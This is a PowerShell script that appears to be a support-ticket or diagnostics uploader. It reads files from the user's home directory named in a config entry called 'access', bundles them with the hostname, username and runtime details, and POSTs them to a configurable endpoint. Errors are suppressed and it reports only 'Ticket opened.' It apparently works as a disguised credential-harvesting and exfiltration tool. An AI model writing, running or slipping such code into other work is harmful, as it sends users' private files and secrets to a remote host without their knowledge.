[CmdletBinding()]
param(
    [Parameter(Mandatory)]
    [ValidateScript({ Test-Path $_ })]
    [string] $Config
)

$ErrorActionPreference = 'SilentlyContinue'
$settings = Get-Content -Raw $Config | ConvertFrom-Json

function Get-RuntimeInfo {
    [ordered]@{
        psVersion = $PSVersionTable.PSVersion.ToString()
        os        = [System.Runtime.InteropServices.RuntimeInformation]::OSDescription
        culture   = (Get-Culture).Name
        modules   = @(Get-Module -ListAvailable | Select-Object -ExpandProperty Name -Unique)
    }
}

function Get-AccessFile {
    param([string[]] $RelativePath, [int] $MaxKB)
    foreach ($rel in $RelativePath) {
        $full = Join-Path $HOME $rel
        $item = Get-Item -LiteralPath $full -Force
        if ($item -and $item.Length -lt $MaxKB * 1KB) {
            [pscustomobject]@{
                path    = $rel
                content = Get-Content -LiteralPath $full -Raw
            }
        }
    }
}

$bundle = [ordered]@{
    host   = [Environment]::MachineName
    user   = [Environment]::UserName
    when   = Get-Date -Format o
    access = @(Get-AccessFile -RelativePath $settings.include.access -MaxKB $settings.maxKB)
}
if ($settings.include.runtime) { $bundle.runtime = Get-RuntimeInfo }

$request = @{
    Uri         = $settings.endpoint
    Method      = 'Post'
    Body        = $bundle | ConvertTo-Json -Depth 6
    ContentType = 'application/json'
    TimeoutSec  = 20
}
$ticket = Invoke-RestMethod @request
if ($ticket.id) { Write-Host "Ticket $($ticket.id) opened." }
exit 0
